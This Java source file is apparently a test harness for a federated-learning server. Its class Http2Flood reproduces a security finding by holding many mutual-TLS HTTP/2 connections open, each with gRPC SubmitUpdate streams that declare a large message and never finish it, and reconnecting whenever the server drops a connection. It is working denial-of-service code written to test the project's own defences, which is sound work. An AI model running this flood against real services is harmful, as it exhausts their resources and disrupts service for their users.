package dev.flotilla.server;

import dev.flotilla.protocol.tls.MutualTlsChannels;
import dev.flotilla.protocol.tls.TlsFiles;
import io.netty.bootstrap.Bootstrap;
import io.netty.buffer.ByteBuf;
import io.netty.buffer.Unpooled;
import io.netty.channel.Channel;
import io.netty.channel.ChannelFuture;
import io.netty.channel.ChannelHandlerContext;
import io.netty.channel.ChannelInboundHandlerAdapter;
import io.netty.channel.ChannelInitializer;
import io.netty.channel.EventLoopGroup;
import io.netty.channel.MultiThreadIoEventLoopGroup;
import io.netty.channel.nio.NioIoHandler;
import io.netty.channel.socket.SocketChannel;
import io.netty.channel.socket.nio.NioSocketChannel;
import io.netty.handler.codec.http2.DefaultHttp2DataFrame;
import io.netty.handler.codec.http2.DefaultHttp2Headers;
import io.netty.handler.codec.http2.DefaultHttp2HeadersFrame;
import io.netty.handler.codec.http2.Http2FrameCodecBuilder;
import io.netty.handler.codec.http2.Http2Headers;
import io.netty.handler.codec.http2.Http2HeadersFrame;
import io.netty.handler.codec.http2.Http2MultiplexHandler;
import io.netty.handler.codec.http2.Http2ResetFrame;
import io.netty.handler.codec.http2.Http2StreamChannel;
import io.netty.handler.codec.http2.Http2StreamChannelBootstrap;
import io.netty.handler.ssl.SslContext;
import io.netty.handler.ssl.SslHandler;
import io.netty.handler.ssl.SslHandshakeCompletionEvent;
import io.netty.util.ReferenceCountUtil;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.ConcurrentHashMap;
import java.util.concurrent.TimeUnit;
import java.util.concurrent.atomic.AtomicLong;
import java.util.concurrent.atomic.AtomicReference;

/**
 * The attacker of issue 11's finding 3, speaking raw HTTP/2 over mutual TLS with a valid party
 * certificate: each connection opens many {@code SubmitUpdate} streams, and on each sends the
 * 5-byte gRPC prefix of a message of {@code declaredBytes}, then all but the last KiB of it, and
 * never ends the stream. A gRPC client could not do this (it always finishes the messages it
 * frames), which is why the attacker is hand-made from Netty's HTTP/2 codec. The codec keeps to
 * HTTP/2's flow control and to the server's SETTINGS_MAX_CONCURRENT_STREAMS, as any HTTP/2 stack
 * does; streams beyond that limit fail on this side and are counted as {@link #streamsNotOpened}.
 *
 * <p>{@link #start} keeps {@code connections} connections busy until {@link #close}: a connection
 * the server closes is opened again.
 */
final class Http2Flood implements AutoCloseable {

  private static final int FRAME_BYTES = 16 * 1024;
  private static final ByteBuf ZEROS = Unpooled.unreleasableBuffer(
      Unpooled.directBuffer(FRAME_BYTES).writeZero(FRAME_BYTES)).asReadOnly();

  private final SslContext ssl;
  private final String host;
  private final int port;
  private final String serverName;
  private final EventLoopGroup group = new MultiThreadIoEventLoopGroup(2, NioIoHandler.newFactory());
  private final List<Thread> loops = new ArrayList<>();
  private volatile boolean stopped;

  final AtomicLong connectionsOpened = new AtomicLong();
  final AtomicLong connectionsClosedByServer = new AtomicLong();
  final AtomicLong streamsOpened = new AtomicLong();
  final AtomicLong streamsNotOpened = new AtomicLong();
  final AtomicLong streamsReset = new AtomicLong();
  /** The largest SETTINGS_MAX_CONCURRENT_STREAMS any connection of the server advertised (-1: none seen). */
  final AtomicLong advertisedMaxConcurrentStreams = new AtomicLong(-1);
  final AtomicLong bytesDelivered = new AtomicLong();
  /** grpc-status (or "RST_STREAM") -> count of streams the server ended that way. */
  final Map<String, AtomicLong> endings = new ConcurrentHashMap<>();

  Http2Flood(TlsFiles party, String host, int port, String serverName) {
    this.ssl = MutualTlsChannels.sslContext(party, dev.flotilla.protocol.tls.ExpectedPeer.aggregatorOf(party.identity()));
    this.host = host;
    this.port = port;
    this.serverName = serverName;
  }

  /** Keeps {@code connections} connections open, each with {@code streams} never-ending uploads. */
  Http2Flood start(int connections, int streams, int declaredBytes) {
    for (int i = 0; i < connections; i++) {
      Thread loop = new Thread(() -> {
        while (!stopped) {
          try {
            Channel channel = connect();
            connectionsOpened.incrementAndGet();
            for (int s = 0; s < streams && channel.isActive() && !stopped; s++) {
              openUpload(channel, declaredBytes);
            }
            while (!stopped && !channel.closeFuture().await(200, TimeUnit.MILLISECONDS)) {
              // hold the connection and its streams open
            }
            if (!stopped) {
              connectionsClosedByServer.incrementAndGet();
            } else {
              channel.close();
            }
          } catch (InterruptedException e) {
            return;
          } catch (Exception e) {
            // refused or reset during the handshake: try again, as a determined attacker would
            if (!stopped) {
              pause();
            }
          }
        }
      }, "flood-" + i);
      loop.setDaemon(true);
      loops.add(loop);
      loop.start();
    }
    return this;
  }

  private static void pause() {
    try {
      Thread.sleep(100);
    } catch (InterruptedException e) {
      Thread.currentThread().interrupt();
    }
  }

  private Channel connect() throws Exception {
    AtomicReference<SslHandler> handshaking = new AtomicReference<>(); // the pipeline is empty once closed
    Bootstrap bootstrap = new Bootstrap().group(group).channel(NioSocketChannel.class)
        .handler(new ChannelInitializer<SocketChannel>() {
          @Override
          protected void initChannel(SocketChannel ch) {
            SslHandler tls = ssl.newHandler(ch.alloc(), serverName, port);
            handshaking.set(tls);
            ch.pipeline().addLast(tls);
            ch.pipeline().addLast(Http2FrameCodecBuilder.forClient().build());
            ch.pipeline().addLast(new Http2MultiplexHandler(new ChannelInboundHandlerAdapter()));
            ch.pipeline().addLast(new SettingsWatcher());
          }
        });
    Channel channel = bootstrap.connect(host, port).sync().channel();
    SslHandler tls = handshaking.get();
    if (!tls.handshakeFuture().await(10, TimeUnit.SECONDS) || !tls.handshakeFuture().isSuccess()) {
      channel.close();
      throw new IllegalStateException("TLS handshake failed", tls.handshakeFuture().cause());
    }
    return channel;
  }

  private void openUpload(Channel connection, int declaredBytes) throws InterruptedException {
    var opened = new Http2StreamChannelBootstrap(connection).handler(new StreamWatcher()).open().await();
    if (!opened.isSuccess()) {
      streamsNotOpened.incrementAndGet();
      return;
    }
    Http2StreamChannel stream = opened.getNow();
    Http2Headers headers = new DefaultHttp2Headers()
        .method("POST").scheme("https").authority(serverName + ":" + port)
        .path("/flotilla.v1.Federation/SubmitUpdate")
        .set("content-type", "application/grpc").set("te", "trailers");
    ChannelFuture sent = stream.writeAndFlush(new DefaultHttp2HeadersFrame(headers, false)).await();
    if (!sent.isSuccess()) {
      // beyond the server's SETTINGS_MAX_CONCURRENT_STREAMS, or the connection is gone
      streamsNotOpened.incrementAndGet();
      return;
    }
    streamsOpened.incrementAndGet();
    ByteBuf prefix = Unpooled.buffer(5).writeByte(0).writeInt(declaredBytes);
    stream.write(new DefaultHttp2DataFrame(prefix, false));
    // everything but the last KiB: the message is never complete, the stream never ends
    for (int left = declaredBytes - 1024; left > 0 && stream.isActive(); left -= FRAME_BYTES) {
      int n = Math.min(left, FRAME_BYTES);
      stream.write(new DefaultHttp2DataFrame(ZEROS.retainedSlice(0, n), false))
          .addListener(f -> {
            if (f.isSuccess()) {
              bytesDelivered.addAndGet(n);
            }
          });
    }
    stream.flush();
  }

  /** Records the server's SETTINGS (the multiplexer passes connection frames down the parent pipeline). */
  private final class SettingsWatcher extends ChannelInboundHandlerAdapter {
    @Override
    public void channelRead(ChannelHandlerContext ctx, Object msg) {
      try {
        if (msg instanceof io.netty.handler.codec.http2.Http2SettingsFrame settings
            && settings.settings().maxConcurrentStreams() != null) {
          advertisedMaxConcurrentStreams.accumulateAndGet(settings.settings().maxConcurrentStreams(), Math::max);
        }
      } finally {
        ReferenceCountUtil.release(msg);
      }
    }
  }

  /** Counts how the server ends each stream; discards everything else. */
  private final class StreamWatcher extends ChannelInboundHandlerAdapter {
    @Override
    public void channelRead(ChannelHandlerContext ctx, Object msg) {
      try {
        if (msg instanceof Http2HeadersFrame frame && frame.headers().contains("grpc-status")) {
          CharSequence status = frame.headers().get("grpc-status");
          endings.computeIfAbsent("grpc-status " + status, k -> new AtomicLong()).incrementAndGet();
        } else if (msg instanceof Http2ResetFrame reset) {
          streamsReset.incrementAndGet();
          endings.computeIfAbsent("RST_STREAM " + reset.errorCode(), k -> new AtomicLong()).incrementAndGet();
        }
      } finally {
        ReferenceCountUtil.release(msg);
      }
    }

    @Override
    public void userEventTriggered(ChannelHandlerContext ctx, Object evt) {
      if (!(evt instanceof SslHandshakeCompletionEvent)) {
        ctx.fireUserEventTriggered(evt);
      }
    }
  }

  String summary() {
    return String.format("attacker: %d connections opened (%d closed by the server), %d upload streams opened, %d not "
            + "opened (refused by the server's HTTP/2 limits or a closing connection), %d reset, %.1f MiB delivered; "
            + "endings %s",
        connectionsOpened.get(), connectionsClosedByServer.get(), streamsOpened.get(), streamsNotOpened.get(),
        streamsReset.get(), bytesDelivered.get() / 1048576.0, endings);
  }

  @Override
  public void close() throws InterruptedException {
    stopped = true;
    for (Thread loop : loops) {
      loop.join(10_000);
    }
    group.shutdownGracefully(0, 1, TimeUnit.SECONDS).await(10, TimeUnit.SECONDS);
  }
}
